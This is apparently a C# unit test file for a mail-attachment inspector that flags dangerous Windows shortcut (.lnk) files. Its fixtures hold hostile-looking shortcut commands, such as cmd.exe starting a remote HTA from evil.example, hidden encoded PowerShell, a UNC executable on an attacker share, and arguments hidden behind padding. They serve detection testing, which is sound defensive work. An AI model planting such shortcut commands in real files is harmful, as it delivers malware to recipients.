using Weir.Mail.Tests.Support;

namespace Weir.Mail.Tests.Inspection.Readers;

public sealed class ShortcutTests
{
    [Fact]
    public void Target_and_arguments_are_told()
    {
        var report = Inspected.File("a.lnk", ActiveFiles.Lnk(@"..\..\Windows\System32\cmd.exe", "/c start https://evil.example/a.hta"))[0];

        Assert.Contains(report.Features, feature => feature is { Name: "lnk-target", Detail: @"starts ..\..\Windows\System32\cmd.exe /c start https://evil.example/a.hta" });
        Assert.Equal(["https://evil.example/a.hta"], report.Urls.Select(url => url.Url));
    }

    [Theory]
    [InlineData(@"C:\Windows\System32\cmd.exe", "/c calc", "", "lnk-runs-script lnk-target")]
    [InlineData("powershell.exe", "-w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", "", "lnk-downloads lnk-runs-script lnk-target")]
    [InlineData("powershell.exe", "-c 1", @"%SystemRoot%\System32\imageres.dll", "lnk-disguised lnk-runs-script lnk-target")]
    [InlineData(@"\\evil.example\share\run.exe", "", "", "lnk-remote lnk-target")]
    [InlineData(@"..\Documents\plan.docx", "", "", "lnk-target")]
    public void What_a_shortcut_does_is_told(string target, string arguments, string icon, string features) => Assert.Equal(features, Inspected.Features("a.lnk", ActiveFiles.Lnk(target, arguments, icon)));

    [Fact]
    public void Arguments_pushed_out_of_sight_are_told() => Assert.Contains("lnk-hides-arguments", Inspected.Features("a.lnk", ActiveFiles.Lnk("cmd.exe", "/c " + new string(' ', 300) + "calc")), StringComparison.Ordinal);

    [Fact]
    public void Bytes_behind_a_shortcut_are_told() => Assert.Contains("lnk-carries-data", Inspected.Features("a.lnk", [.. ActiveFiles.Lnk("cmd.exe", "/c calc"), .. new byte[100_000]]), StringComparison.Ordinal);

    [Fact]
    public void A_shortcut_that_is_cut_off_is_told() => Assert.Contains("cut off", Inspected.File("a.lnk", ActiveFiles.Lnk("a", "b")[..40])[0].NotRead, StringComparison.Ordinal);
}
